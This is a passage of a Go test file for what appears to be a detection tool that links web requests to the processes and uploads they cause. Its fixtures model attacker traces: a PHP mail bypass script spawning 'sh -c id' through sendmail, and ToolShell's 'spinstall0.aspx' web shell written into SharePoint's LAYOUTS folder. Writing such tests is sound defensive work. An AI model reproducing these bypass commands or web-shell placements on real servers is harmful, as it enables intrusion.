		at := map[string]int{"request last": 4, "request first": 0, "request between": 1}[order]
		for i := 0; i <= len(procs); i++ {
			if i == at {
				note(c.AddRequest("h", req))
			}
			if i < len(procs) {
				note(c.AddProcessAll("h", procs[i]))
			}
		}
		if !maps.Equal(got, want) {
			t.Errorf("%s: evidence by process %v, want %v", order, got, want)
		}
	}
	// Another request's parameters: nothing links (the shell's own
	// command line rules it out, and no child carries them).
	c := New(Options{})
	other := req
	other.Params = []string{"whoami"}
	got := feed(c, []any{procs[0], procs[1], procs[2], procs[3], other})
	if len(got) != 0 {
		t.Errorf("links %v to a request whose parameters no process carries", got)
	}
}

// The same bypass on Apache and on nginx + php-fpm in the same second, as
// TestLiveMailBypass runs it: each request names its own output file and
// both run id. php-fpm may serve either server, and the id under each
// sendmail shell is the whole of both requests' cmd: before descendants
// needed a value of 3 bytes or more, Apache's request (held first) took
// php-fpm's tree by its id, and the Apache tree was linked to nothing.
func TestParamInDescendantTwoServers(t *testing.T) {
	req := func(ref int64, server, out string) Request {
		return Request{Ref: ref, Time: t0, Path: "/uploads/bypass.php", Params: []string{"id", out, "/tmp/x.so"}, Script: true, Server: server}
	}
	tree := func(ref int64, at int, web, out string) []any {
		proc := func(ref int64, at int, id, cmd string) Process {
			return Process{Ref: ref, Time: ms(at), ID: web + id, Shell: web + "s", CommandLine: cmd, Cwd: "/var/www/" + web + "/uploads", WebNames: []string{web}}
		}
		return []any{
			proc(ref, at, "s", "sh -c /usr/sbin/sendmail -t -i"),
			proc(ref+1, at+4, "k", "sh -c id > "+out+" 2>&1"),
			proc(ref+2, at+5, "i", "id"),
		}
	}
	apache, nginx := req(1, "apache", "/tmp/a.out"), req(2, "nginx", "/tmp/n.out")
	procs := slices.Concat(tree(10, 300, "apache2", "/tmp/a.out"), tree(20, 320, "php-fpm8.2", "/tmp/n.out"))
	want := map[int64]int64{10: 1, 11: 1, 12: 1, 20: 2, 21: 2, 22: 2}
	for name, events := range map[string][]any{
		"requests last":  slices.Concat(procs, []any{apache, nginx}),
		"requests first": slices.Concat([]any{apache, nginx}, procs),
	} {
		if got := feed(New(Options{}), events); !maps.Equal(got, want) {
			t.Errorf("%s: links (process: request) %v, want %v", name, got, want)
		}
	}
}

// SharePoint serves its hive's TEMPLATE\LAYOUTS as /_layouts/15/ in every
// site: ToolShell's spinstall0.aspx, written there, is used by a request
// for /_layouts/15/spinstall0.aspx, which names no folder of its path.
func TestVirtualDirUpload(t *testing.T) {
	const hive = `C:\Program Files\Common Files\Microsoft Shared\Web Server Extensions\16\`
	for _, tt := range []struct {
		file, url string
		want      bool
	}{
		{hive + `TEMPLATE\LAYOUTS\spinstall0.aspx`, "/_layouts/15/spinstall0.aspx", true},
		{hive + `TEMPLATE\LAYOUTS\spinstall0.aspx`, "/sites/hr/_layouts/15/spinstall0.aspx", true},
		{hive + `TEMPLATE\LAYOUTS\spinstall0.aspx`, "/_layouts/spinstall0.aspx", true},
		{hive + `ISAPI\x.asmx`, "/_vti_bin/x.asmx", true},
		{hive + `TEMPLATE\LAYOUTS\spinstall0.aspx`, "/_layouts/15/other.aspx", false},
		{`C:\inetpub\wwwroot\_layouts\15\x.aspx`, "/_layouts/15/x.aspx", true}, // a folder of that name
		{`C:\inetpub\wwwroot\x.aspx`, "/_layouts/15/x.aspx", false},
	} {
		c := New(Options{})
		c.AddUpload("h", Upload{Time: ms(1000), Path: tt.file, Writer: "powershell.exe"})
		_, ok := c.RequestUse("h", Request{Ref: 1, Time: ms(3000), Path: tt.url})
		if ok != tt.want {
			t.Errorf("%s then GET %s: used %v, want %v", tt.file, tt.url, ok, tt.want)
		}
		// The request read first (a log line before the audit record).
		c = New(Options{})
		c.AddRequest("h", Request{Ref: 1, Time: ms(1000), Path: tt.url, Script: true})
		if _, ok := c.AddUpload("h", Upload{Time: ms(1000), Path: tt.file}); ok != tt.want {
			t.Errorf("GET %s, then %s written: used %v, want %v", tt.url, tt.file, ok, tt.want)
		}
	}
}
